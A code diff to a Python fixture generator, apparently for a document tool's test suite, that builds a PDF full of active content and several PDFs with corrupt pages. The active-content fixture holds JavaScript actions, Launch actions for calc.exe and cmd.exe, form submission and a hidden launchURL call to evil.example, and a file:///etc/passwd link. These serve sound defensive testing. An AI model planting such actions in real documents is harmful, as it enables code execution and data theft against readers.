@@ -308,11 +308,145 @@ def money_workbooks() -> None:
     wb.save(HERE / "money-text-in-amount.xlsx")
 
 
+# --- active content and damaged pages (issue 12) -------------------------------------------------
+
+ATTACHED_TEXT = b"ATTACHED-SECRET-SPREADSHEET"
+
+
+def active_content() -> None:
+    """A 2-page appendix carrying every kind of active content a viewer might run or open.
+
+    Scripts on open, on page view, in links, form fields and chained /Next actions, under keys no
+    viewer reads; launch, remote, import and submit actions; media annotations; XFA; an attached
+    file (page annotation and document tree). One plain web link stays, to show links survive.
+    """
+    import pikepdf  # noqa: PLC0415 - only to make these fixtures
+    from pikepdf import Array, Dictionary, Name, String  # noqa: PLC0415
+
+    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(2, "Active")))
+
+    def js(code: str) -> pikepdf.Object:
+        return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))
+
+    def act(kind: str, **kw: object) -> Dictionary:
+        return Dictionary(S=Name(kind), **kw)
+
+    def link(action: Dictionary, y: int) -> Dictionary:
+        return Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Link,
+            Rect=Array([72, y, 300, y + 20]),
+            Border=Array([0, 0, 0]),
+            A=action,
+        )
+
+    attached = pdf.make_stream(ATTACHED_TEXT, Type=Name.EmbeddedFile)
+    filespec = Dictionary(
+        Type=Name.Filespec,
+        F=String("budget.xlsx"),
+        UF=String("budget.xlsx"),
+        EF=Dictionary(F=attached),
+    )
+    stream_js = pdf.make_stream(b"app.launchURL('https://evil.example/stream')")
+    pdf.Root.OpenAction = act(
+        "/GoTo",
+        D=Array([pdf.pages[0].obj, Name.Fit]),
+        Next=Array([js("app.alert('open chain')"), act("/Launch", F=String("calc.exe"))]),
+    )
+    pdf.Root.AA = Dictionary(WC=js("app.alert('will close')"))
+    pdf.Root.Names = Dictionary(
+        JavaScript=Dictionary(Names=Array([String("init"), js("app.alert('names tree')")])),
+        EmbeddedFiles=Dictionary(Names=Array([String("budget.xlsx"), filespec])),
+    )
+    field = pdf.make_indirect(
+        Dictionary(
+            FT=Name.Tx,
+            T=String("amount"),
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            Rect=Array([72, 600, 200, 620]),
+            P=pdf.pages[0].obj,
+            AA=Dictionary(K=js("event.value = 1")),
+            A=act("/SubmitForm", F=String("https://evil.example/submit")),
+        )
+    )
+    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
+    page1, page2 = pdf.pages[0].obj, pdf.pages[1].obj
+    page1.AA = Dictionary(O=js("app.alert('page open')"), C=act("/ImportData", F=String("x.fdf")))
+    page1.PieceInfo = Dictionary(Hidden=Dictionary(Private=act("/JavaScript", JS=stream_js)))
+    page1.Annots = Array(
+        [
+            field,
+            link(act("/Launch", F=String("cmd.exe"), Next=js("app.alert('next')")), 700),
+            link(act("/URI", URI=String("javascript:app.alert('uri')")), 670),
+            link(act("/URI", URI=String("file:///etc/passwd")), 640),
+            link(act("/URI", URI=String("https://www.plymouth.gov.uk/")), 560),
+            link(act("/GoToR", F=String("other.pdf"), D=Array([0, Name.Fit])), 530),
+            Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.FileAttachment,
+                Rect=Array([400, 700, 420, 720]),
+                FS=filespec,
+                Contents=String("budget"),
+            ),
+            Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.Screen,
+                Rect=Array([400, 600, 500, 650]),
+                A=act("/Rendition", JS=String("app.alert('rendition')")),
+            ),
+            Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([400, 500, 500, 550])),
+            Dictionary(Type=Name("/Annot"), Subtype=Name("/3D"), Rect=Array([400, 400, 500, 450])),
+        ]
+    )
+    page2.Annots = Array(
+        [
+            link(act("/GoToE", R=Name.C, T=Dictionary(R=Name.C, N=String("budget.xlsx"))), 700),
+            link(act("/Named", N=Name.NextPage, Next=act("/SubmitForm", F=String("x"))), 670),
+            link(act("/RichMediaExecute", TA=Dictionary()), 640),
+        ]
+    )
+    pdf.save(HERE / "pdf-active-content.pdf")
+
+
+def damaged_content() -> None:
+    """Readable PDFs with one page whose drawing instructions are corrupt (the rest are fine)."""
+    import pikepdf  # noqa: PLC0415
+
+    # page 3: its compressed content is garbage, so qpdf cannot inflate it
+    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(4, "Inflate")))
+    pdf.pages[2].obj.Contents.write(
+        b"x\x9c\x00garbage\xff\xfe" * 8, filter=pikepdf.Name.FlateDecode
+    )
+    pdf.save(HERE / "pdf-page-3-bad-compression.pdf")
+    # page 2: content cut off in the middle of an instruction
+    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(3, "Cutoff")))
+    pdf.pages[1].obj.Contents.write(
+        b"BT /F1 14 Tf 72 400 Td (Cutoff page 2) Tj ET q 1 0 0 1 <<<< ]]"
+    )
+    pdf.save(HERE / "pdf-page-2-truncated-content.pdf")
+    # page 2 draws a form (XObject) whose stream is garbage: the page itself parses
+    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(2, "Form")))
+    form = pdf.make_stream(
+        b"",
+        Type=pikepdf.Name.XObject,
+        Subtype=pikepdf.Name.Form,
+        BBox=pikepdf.Array([0, 0, 100, 100]),
+    )
+    form.write(b"\x00\x01garbage" * 10, filter=pikepdf.Name.FlateDecode)
+    page = pdf.pages[1].obj
+    page.Resources.XObject = pikepdf.Dictionary(Fm1=form)
+    page.Contents.write(page.Contents.read_bytes() + b" /Fm1 Do")
+    pdf.save(HERE / "pdf-page-2-bad-form.pdf")
+
+
 def main() -> None:
     workbooks()
     papers()
     templates()
     money_workbooks()
+    active_content()
+    damaged_content()
     print(f"corpus written to {HERE}")
 
 
